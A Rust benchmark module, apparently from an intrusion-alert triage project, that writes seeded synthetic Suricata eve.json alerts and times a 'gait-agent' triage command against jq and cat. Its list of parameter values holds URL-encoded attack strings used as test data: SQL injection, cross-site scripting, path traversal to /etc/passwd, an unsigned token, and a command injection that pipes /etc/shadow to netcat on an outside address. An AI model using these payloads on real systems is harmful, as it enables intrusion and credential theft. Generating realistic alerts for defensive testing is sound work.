//! `gait-agent triage` on a made `eve.json`, beside `jq` that only reads and writes it, and `cat`, in one run.
//!
//! The alerts are made here, seeded: lines of one to two kilobytes with the fields that Suricata 7 writes where metadata, flow and
//! printable payload are logged. The model has a weight for every feature and as many exemplars as it may have.

use std::fmt::Write as _;
use std::fs;
use std::io::{BufWriter, Write as _};
use std::path::Path;
use std::process::Command;
use std::thread;

use anyhow::{Context as _, Result, ensure};
use serde_json::json;

use super::Options;
use super::measured::{self, Cost};
use crate::apt::{self, need};
use crate::shell::{cargo, run, say, target_dir};

/// Largest file that is made, in MB.
const MOST: u32 = 600;
/// Alerts a second and core that are to be reached.
const BAR: f64 = 100_000.0;

/// Measures and prints.
pub(crate) fn triage(options: &Options) -> Result<()> {
    apt::ensure(&[need("jq", "jq")])?;
    say("building the agent (release, without the kernel side)");
    let mut build = cargo();
    build.args([
        "build",
        "--release",
        "--package",
        "gait-agent",
        "--bin",
        "gait-agent",
        "--example",
        "triage_model",
    ]);
    run(&mut build)?;
    let release = target_dir().join("release");
    let dir =
        tempfile::Builder::new().prefix("gait-triage-").tempdir().context("failed to create a directory")?;
    let (eve, model) = (dir.path().join("eve.json"), dir.path().join("model.gait"));
    run(Command::new(release.join("examples/triage_model")).arg(&model))?;
    let bytes = u64::from(options.megabytes.min(MOST)) * 1_000_000;
    let (lines, bytes) = match options.data.first() {
        Some(file) => {
            (0, fs::copy(file, &eve).with_context(|| format!("failed to copy {}", file.display()))?)
        }
        None => (make(&eve, bytes).with_context(|| format!("failed to write {}", eve.display()))?, bytes),
    };
    let cores = thread::available_parallelism().map_or(1, Into::into);
    let judge = |threads: usize| {
        let program = release.join("gait-agent").display().to_string();
        let (model, threads) = (model.display().to_string(), threads.to_string());
        [&program, "triage", "--model", &model, "--threads", &threads].map(str::to_owned).to_vec()
    };
    let words = |command: &str| command.split(' ').map(str::to_owned).collect::<Vec<_>>();
    let variants = [
        ("gait, 1 thread".to_owned(), judge(1)),
        (format!("gait, {cores} threads"), judge(cores)),
        ("jq -c .".to_owned(), words("jq -c .")),
        ("cat".to_owned(), words("cat")),
    ];
    let mut best: Vec<Option<Cost>> = vec![None; variants.len()];
    for round in 0..options.rounds.min(3) {
        for at in (0..variants.len()).map(|at| (at + round as usize) % variants.len()) {
            let cost = measured::run(&to_nowhere(&variants[at].1, &eve), dir.path())?.1;
            say(format!(
                "round {}: {} {:.2} s, {:.2} s of CPU",
                round + 1,
                variants[at].0,
                cost.seconds,
                cost.cpu
            ));
            best[at] = best[at].filter(|best| best.cpu <= cost.cpu).or(Some(cost));
        }
    }
    let rows: Vec<(&str, Cost)> =
        variants.iter().zip(best).filter_map(|(variant, cost)| Some((variant.0.as_str(), cost?))).collect();
    let lines = if lines > 0 { lines } else { count(&eve)? };
    print(lines, bytes, &rows, options.json);
    Ok(())
}

/// A command over a file whose output nobody keeps.
fn to_nowhere(words: &[String], file: &Path) -> Command {
    let mut command = Command::new("sh");
    command.args(["-c", "exec \"$@\" > /dev/null", "sh"]).args(words).arg(file);
    command
}

fn count(file: &Path) -> Result<u64> {
    let text = fs::read(file).with_context(|| format!("failed to read {}", file.display()))?;
    let lines = text.iter().filter(|&&byte| byte == b'\n').count() as u64;
    ensure!(lines > 0, "{} has no lines", file.display());
    Ok(lines)
}

fn print(lines: u64, bytes: u64, rows: &[(&str, Cost)], as_json: bool) {
    let per_core = |cost: &Cost| lines as f64 / cost.cpu;
    if as_json {
        let rows: Vec<_> = rows
            .iter()
            .map(|(name, cost)| {
                json!({ "name": name, "seconds": cost.seconds, "cpu": cost.cpu, "memory_mib": cost.memory,
                        "alerts_per_second": lines as f64 / cost.seconds, "alerts_per_core_second": per_core(cost) })
            })
            .collect();
        println!("{}", json!({ "alerts": lines, "bytes": bytes, "bar_per_core_second": BAR, "rows": rows }));
        return;
    }
    println!("{lines} alerts, {} MB, {} bytes each", bytes / 1_000_000, bytes / lines);
    println!(
        "{:<18} {:>8} {:>8} {:>12} {:>16} {:>6}",
        "", "seconds", "CPU", "alerts/s", "alerts/s/core", "MiB"
    );
    for (name, cost) in rows {
        let Cost { seconds, cpu, memory } = cost;
        let rate = lines as f64 / seconds;
        println!("{name:<18} {seconds:>8.2} {cpu:>8.2} {rate:>12.0} {:>16.0} {memory:>6.0}", per_core(cost));
    }
    if let Some((name, cost)) = rows.first() {
        let met = if per_core(cost) >= BAR { "met" } else { "not met" };
        println!("bar: {BAR:.0} alerts/s/core, {met} by {name}");
    }
}

/// Writes alerts until the file is as large as wanted; gives their number.
fn make(file: &Path, bytes: u64) -> std::io::Result<u64> {
    let mut out = BufWriter::with_capacity(1 << 20, fs::File::create(file)?);
    let mut rng = fastrand::Rng::with_seed(1);
    let (mut written, mut lines, mut line) = (0, 0, String::new());
    while written < bytes {
        line.clear();
        alert(&mut rng, lines, &mut line);
        out.write_all(line.as_bytes())?;
        written += line.len() as u64;
        lines += 1;
    }
    out.flush()?;
    Ok(lines)
}

/// Values of parameters: what is harmless, and what rules look for.
const VALUES: &[&str] = &[
    "blue+suede+shoes",
    "4711",
    "2024-05-17",
    "jane.doe%40example.org",
    "select+a+size+from+the+list",
    "1%27%20or%20%271%27%3D%271",
    "1%20union%20select%20name%2C%20pass%20from%20users%20--%20",
    "%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%3Bcat%20%2Fetc%2Fshadow%7Cnc%20198.51.100.9%204444",
    "%7B%7B7%2A7%7D%7D",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
];
/// Messages and classes of made-up rules.
const RULES: &[(&str, &str)] = &[
    ("WEB select from in a request", "Web Application Attack"),
    ("WEB union of selects in a parameter", "Web Application Attack"),
    ("WEB script in a parameter", "Web Application Attack"),
    ("WEB way out of the document root", "Attempted Information Leak"),
    ("WEB command after a semicolon", "Attempted Administrator Privilege Gain"),
    ("SCAN tool named in the user agent", "Detection of a Network Scan"),
    ("POLICY unusual method", "Potentially Bad Traffic"),
    ("WEB template expression in a parameter", "Web Application Attack"),
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "curl/8.4.0",
    "python-requests/2.32.3",
    "okhttp/4.9",
];

/// One alert as Suricata would write it.
fn alert(rng: &mut fastrand::Rng, number: u64, out: &mut String) {
    let any = |rng: &mut fastrand::Rng, of: &[&'static str]| of[rng.usize(..of.len())];
    let micros = number * 731;
    let (minute, second, micro) = (micros / 60_000_000 % 60, micros / 1_000_000 % 60, micros % 1_000_000);
    let time =
        format!("2024-05-17T{:02}:{minute:02}:{second:02}.{micro:06}+0000", micros / 3_600_000_000 % 24);
    let source = format!("203.0.{}.{}", rng.u8(..4), rng.u8(..));
    let (port, rule) = (rng.u16(20_000..60_000), rng.usize(..RULES.len()));
    let (message, class) = RULES[rule];
    let mut url =
        format!("/api/v{}/{}/{}?", rng.u8(1..4), any(rng, &["items", "orders", "users"]), rng.u32(..90_000));
    for name in ["q", "filter", "sort", "page", "token"].iter().take(rng.usize(1..=5)) {
        let _ = write!(url, "{name}={}&", any(rng, VALUES));
    }
    url.pop();
    let agent = any(rng, AGENTS);
    let method = if rng.u8(..4) == 0 { "POST" } else { "GET" };
    let mut payload = format!(
        "{method} {url} HTTP/1.1\\r\\nHost: shop.example\\r\\nUser-Agent: {agent}\\r\\nAccept: text/html,application/json;q=0.9\
         \\r\\nAccept-Language: en-GB,en;q=0.7\\r\\nAccept-Encoding: gzip, deflate\\r\\nCookie: sid={:016x}\\r\\nConnection: \
         keep-alive\\r\\n\\r\\n",
        rng.u64(..)
    );
    if method == "POST" {
        for name in ["name", "note", "address", "comment"].iter().take(rng.usize(1..=4)) {
            let _ = write!(payload, "{name}={}&", any(rng, VALUES));
        }
    }
    let flow = rng.u64(1 << 40..1 << 50);
    let _ = writeln!(
        out,
        "{{\"timestamp\":\"{time}\",\"flow_id\":{flow},\"in_iface\":\"eth0\",\"event_type\":\"alert\",\"src_ip\":\"{source}\",\
         \"src_port\":{port},\"dest_ip\":\"192.168.56.10\",\"dest_port\":80,\"proto\":\"TCP\",\"pkt_src\":\"wire/pcap\",\
         \"tx_id\":{},\"alert\":{{\"action\":\"allowed\",\"gid\":1,\"signature_id\":{},\"rev\":{},\"signature\":\"{message}\",\
         \"category\":\"{class}\",\"severity\":{},\"metadata\":{{\"affected_product\":[\"Web_Server_Applications\"],\
         \"attack_target\":[\"Web_Server\"],\"created_at\":[\"2010_07_30\"],\"deployment\":[\"Datacenter\"],\
         \"signature_severity\":[\"Major\"],\"updated_at\":[\"2020_05_01\"]}}}},\"http\":{{\"hostname\":\"shop.example\",\
         \"url\":\"{url}\",\"http_user_agent\":\"{agent}\",\"http_content_type\":\"application/json\",\"http_method\":\
         \"{method}\",\"protocol\":\"HTTP/1.1\",\"status\":{},\"length\":{}}},\"app_proto\":\"http\",\"direction\":\
         \"to_server\",\"flow\":{{\"pkts_toserver\":4,\"pkts_toclient\":3,\"bytes_toserver\":{},\"bytes_toclient\":263,\
         \"start\":\"{time}\",\"src_ip\":\"{source}\",\"dest_ip\":\"192.168.56.10\",\"src_port\":{port},\"dest_port\":80}},\
         \"payload_printable\":\"{payload}\",\"stream\":1}}",
        rng.u8(..4),
        2_000_000 + rule,
        rng.u8(1..9),
        1 + rng.u8(..3),
        any(rng, &["200", "404", "500"]),
        rng.u32(..20_000),
        rng.u32(300..2000),
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn made_alerts_are_json_of_a_real_ones_size() {
        let (mut rng, mut text) = (fastrand::Rng::with_seed(1), String::new());
        (0..1000).for_each(|number| alert(&mut rng, number, &mut text));
        for line in text.lines() {
            let event: serde_json::Value = serde_json::from_str(line).expect(line);
            assert_eq!(event["event_type"], "alert");
        }
        let mean = text.len() / 1000;
        assert!((1000..2000).contains(&mean), "{mean}");
    }
}
